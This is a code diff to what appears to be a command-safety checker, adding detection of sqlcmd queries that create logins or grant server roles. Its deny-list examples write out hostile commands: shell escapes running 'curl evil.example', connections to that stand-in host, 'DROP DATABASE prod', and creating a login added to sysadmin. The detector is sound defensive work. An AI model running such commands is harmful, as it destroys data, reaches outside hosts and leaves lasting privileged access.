@@ -8,7 +8,7 @@ import { bound, canonicalHost, type Destination, destinations, loopbackHost, env
 import { attached, literal, longSpelt, shellQuote, value, xargsSplit } from '../words.js';
 import { configFileRuns, keeping } from './credentials.js';
 import { gitAddressHost } from './git.js';
-import { commandOptions, databaseClient, luaFile, sqlDrop, sqliteFile, sqliteText, sshOptions } from './tools.js';
+import { commandOptions, databaseClient, luaFile, sqlDrop, sqlGrant, sqliteFile, sqliteText, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -1013,11 +1013,14 @@ function sqlcmd(call: Call): Partial<Answer> {
   const base = databaseClient(call);
   const runs: Run[] = [...(base.runs ?? [])];
   const destroys = [...(base.destroys ?? [])];
+  const persists = [...(base.persists ?? [])];
   const scan = (word: Word, text: string) => {
     for (const m of text.matchAll(/(?:^|\n)[ \t]*:?!!([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} !!` });
     // Its -Q/-q query (and static stdin) is SQL as psql's -c is: `sqlcmd -Q 'DROP DATABASE prod'`.
     const drop = sqlDrop(text);
     if (drop && !destroys.some((d) => d.word === word)) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
+    const grant = sqlGrant(text);
+    if (grant && !persists.some((d) => d.word === word)) persists.push({ word, why: `${call.name} runs ${grant}\u2026: a database login, or rights over the server, that last` });
   };
   const args = call.args;
   if (args.some((w) => /^-X/.test(value(w) ?? ''))) return base;
@@ -1030,7 +1033,7 @@ function sqlcmd(call: Call): Partial<Answer> {
     if (w && text !== undefined) scan(w, text);
   }
   if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
-  return { ...base, runs, ...(destroys.length > 0 ? { destroys } : {}) };
+  return { ...base, runs, ...(destroys.length > 0 ? { destroys } : {}), ...(persists.length > 0 ? { persists } : {}) };
 }
 
 /** Every URL in a word's text (`select * from 'https://…/x.csv'`), from its scheme on, up to a quote or space. */
@@ -1311,7 +1314,7 @@ const SERVICES: ProgramEntry[] = [
     operands: 'none',
     hosts: sqlServerHosts,
     more: sqlcmd,
-    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x', "sqlcmd -S localhost -Q 'DROP DATABASE prod'"], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
+    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", `sqlcmd -S localhost -Q "CREATE LOGIN x WITH PASSWORD = 'P4ss!'"`, "sqlcmd -S localhost -Q \"EXEC sp_addsrvrolemember 'x', 'sysadmin'\"", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x', "sqlcmd -S localhost -Q 'DROP DATABASE prod'"], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
   }),
   service({
     names: ['clickhouse-client'],
